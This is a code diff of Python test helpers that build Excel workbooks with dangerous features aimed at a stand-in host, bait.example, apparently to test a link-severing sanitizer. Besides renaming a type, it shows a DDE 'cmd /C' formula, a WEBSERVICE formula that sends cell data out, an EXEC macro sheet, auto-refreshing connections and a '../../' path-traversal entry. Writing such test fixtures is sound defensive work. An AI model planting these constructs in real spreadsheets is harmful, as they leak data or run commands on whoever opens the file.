@@ -17,7 +17,7 @@ from xhg_excel.core.results.marks import marks_of
 from xhg_excel.files.marked.copy import write_marked_copy
 from xhg_excel.files.marked.cut_links import sever
 from xhg_excel.files.marked.mark import mark
-from xhg_excel.files.ooxml.package import Package
+from xhg_excel.files.ooxml.text_package import TextPackage
 
 OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
 BAIT = "bait.example"
@@ -25,11 +25,11 @@ BOOK_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.externa
 PART = "xl/worksheets/sheet2.xml"
 
 
-def package(path: Path) -> Package:
-    return Package(own_workbook(path), path.name)
+def package(path: Path) -> TextPackage:
+    return TextPackage(own_workbook(path), path.name)
 
 
-def add(book: Package, part: str, xml: str, owner: str, kind: str, content_type: str = "") -> None:
+def add(book: TextPackage, part: str, xml: str, owner: str, kind: str, content_type: str = "") -> None:
     """Add a part that `owner` relates to."""
     book[part] = xml
     book.relate(owner, f"rIdBait{len(book.parts)}", f"{OFFICE}/{kind}", part)
@@ -37,19 +37,19 @@ def add(book: Package, part: str, xml: str, owner: str, kind: str, content_type:
         book.declare(part, content_type)
 
 
-def relate_outside(book: Package, owner: str, key: str, kind: str, target: str) -> None:
+def relate_outside(book: TextPackage, owner: str, key: str, kind: str, target: str) -> None:
     book.relate(owner, key, f"{OFFICE}/{kind}", "x")
     rels = f"{owner.rpartition('/')[0]}/_rels/{owner.rpartition('/')[2]}.rels"
     book[rels] = book[rels].replace('Target="/x"', f'Target="{target}" TargetMode="External"')
 
 
-def put_formula(book: Package, formula: str, value: str = "<v>7</v>", attributes: str = "") -> None:
+def put_formula(book: TextPackage, formula: str, value: str = "<v>7</v>", attributes: str = "") -> None:
     """Put a formula into A2 of the second sheet, in the place of its 3."""
     cell = f"\\g<1><f{attributes}>{formula}</f>{value}</c>"
     book[PART] = re.sub(r'(<c r="A2"[^>]*>)<v>3</v></c>', cell, book[PART])
 
 
-def with_external_book(book: Package) -> None:
+def with_external_book(book: TextPackage) -> None:
     link = f'<externalLink xmlns:r="{OFFICE}"><externalBook r:id="rId1"/></externalLink>'
     add(book, "xl/externalLinks/externalLink1.xml", link, "xl/workbook.xml", "externalLink", BOOK_TYPE)
     relate_outside(book, "xl/externalLinks/externalLink1.xml", "rId1", "externalLinkPath", f"http://{BAIT}/a.xlsx")
@@ -60,40 +60,40 @@ def with_external_book(book: Package) -> None:
     put_formula(book, "SUM([1]Sheet1!$A$1,1)")
 
 
-def with_dde(book: Package) -> None:
+def with_dde(book: TextPackage) -> None:
     link = '<externalLink><ddeLink ddeService="cmd" ddeTopic="/C calc bait.example"/></externalLink>'
     add(book, "xl/externalLinks/externalLink1.xml", link, "xl/workbook.xml", "externalLink", BOOK_TYPE)
     put_formula(book, "cmd|'/C calc bait.example'!A0")
 
 
-def with_web_service(book: Package) -> None:
+def with_web_service(book: TextPackage) -> None:
     put_formula(book, f'_xlfn.WEBSERVICE("http://{BAIT}/?"&amp;A3)')
 
 
-def with_link_formula(book: Package) -> None:
+def with_link_formula(book: TextPackage) -> None:
     put_formula(book, f'HYPERLINK("http://{BAIT}","点这里")')
 
 
-def with_link(book: Package) -> None:
+def with_link(book: TextPackage) -> None:
     relate_outside(book, PART, "rIdOut", "hyperlink", f"http://{BAIT}/")
     links = f'<hyperlinks><hyperlink ref="A2" xmlns:r="{OFFICE}" r:id="rIdOut"/></hyperlinks><pageMargins'
     book[PART] = book[PART].replace("<pageMargins", links, 1)
 
 
-def with_far_picture(book: Package) -> None:
+def with_far_picture(book: TextPackage) -> None:
     relate_outside(book, "xl/drawings/drawing1.xml", "rIdOut", "image", f"http://{BAIT}/seen.png")
 
 
-def with_connection(book: Package) -> None:
+def with_connection(book: TextPackage) -> None:
     xml = f'<connections><connection id="1" refreshOnLoad="1"><webPr url="http://{BAIT}"/></connection></connections>'
     add(book, "xl/connections.xml", xml, "xl/workbook.xml", "connections")
 
 
-def with_macros(book: Package) -> None:
+def with_macros(book: TextPackage) -> None:
     add(book, "xl/vbaProject.bin", "bait.example", "xl/workbook.xml", "vbaProject")
 
 
-def with_macro_sheet(book: Package) -> None:
+def with_macro_sheet(book: TextPackage) -> None:
     kind = "http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet"
     book["xl/macrosheets/sheet1.xml"] = '<xm:macrosheet><f>EXEC("bait.example")</f></xm:macrosheet>'
     book.relate("xl/workbook.xml", "rIdMacro", kind, "xl/macrosheets/sheet1.xml")
@@ -102,7 +102,7 @@ def with_macro_sheet(book: Package) -> None:
     book["xl/workbook.xml"] = workbook.replace("</definedNames>", name, 1)
 
 
-def with_entry_outside(book: Package) -> None:
+def with_entry_outside(book: TextPackage) -> None:
     book["../../bait.example"] = "bait.example"
 
 
